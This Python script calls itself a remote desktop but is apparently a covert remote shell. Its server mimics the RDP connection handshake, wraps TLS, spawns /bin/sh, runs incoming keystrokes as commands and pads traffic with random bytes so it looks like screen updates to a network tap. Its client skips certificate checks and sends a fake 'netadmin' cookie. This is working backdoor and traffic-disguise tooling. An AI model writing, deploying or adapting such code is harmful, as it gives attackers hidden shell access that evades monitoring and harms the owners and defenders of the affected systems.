"""A remote desktop, as far as a tap can tell: X.224 and TLS as [MS-RDPBCGR] begins, keys one way, pictures the other.

Usage: desktop.py serve CERTIFICATE KEY
       desktop.py view ADDRESS          (keys come from the terminal)
"""

import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import tty

PORT = 3389


def tpkt(x224):
    return struct.pack(">BBH", 3, 0, 4 + len(x224)) + x224


def read_tpkt(connection):
    head = connection.recv(4, socket.MSG_WAITALL)
    return connection.recv(struct.unpack(">BBH", head)[2] - 4, socket.MSG_WAITALL)


def serve(certificate, key):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    listener = socket.create_server(("", PORT))
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=session, args=(connection, context), daemon=True).start()


def receive(secure):
    """What came; nothing at the end; None if it was for TLS itself, such as a ticket."""
    secure.setblocking(False)
    try:
        return secure.recv(65536)
    except ssl.SSLWantReadError:
        return None
    finally:
        secure.setblocking(True)


def session(connection, context):
    read_tpkt(connection)  # connection request, with RDP_NEG_REQ
    connection.sendall(tpkt(bytes.fromhex("0ed000001234000200080001000000")))  # confirm, RDP_NEG_RSP: TLS
    secure = context.wrap_socket(connection, server_side=True)
    shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)

    screen = shell.stdout.fileno()
    while True:
        ready, _, _ = select.select([secure, screen], [], [])
        if screen in ready:
            output = os.read(screen, 1000)
            secure.sendall(os.urandom(300) + output)
        if secure in ready:
            keys = receive(secure)
            if keys is None:
                continue
            if not keys:
                break
            secure.sendall(os.urandom(160 + 40 * len(keys)))  # the letter appears on the screen
            shell.stdin.write(keys[3::4].replace(b"\r", b"\n"))
            shell.stdin.flush()
        if shell.poll() is not None:
            break
    shell.kill()
    secure.close()


def view(address):
    connection = socket.create_connection((address, PORT))
    cookie = b"Cookie: mstshash=netadmin\r\n" + bytes.fromhex("0100080001000000")
    connection.sendall(tpkt(bytes([6 + len(cookie)]) + bytes.fromhex("e00000000000") + cookie))
    read_tpkt(connection)
    context = ssl._create_unverified_context()
    secure = context.wrap_socket(connection)
    if sys.stdin.isatty():
        tty.setcbreak(0)

    while True:
        ready, _, _ = select.select([secure, 0], [], [])
        if secure in ready and receive(secure) == b"":
            break
        if 0 in ready:
            if not (key := os.read(0, 1)):
                break
            secure.sendall(struct.pack(">BBB", 0x44, 4, 0) + key)  # a fast-path input event
    secure.close()


{"serve": serve, "view": view}[sys.argv[1]](*sys.argv[2:])
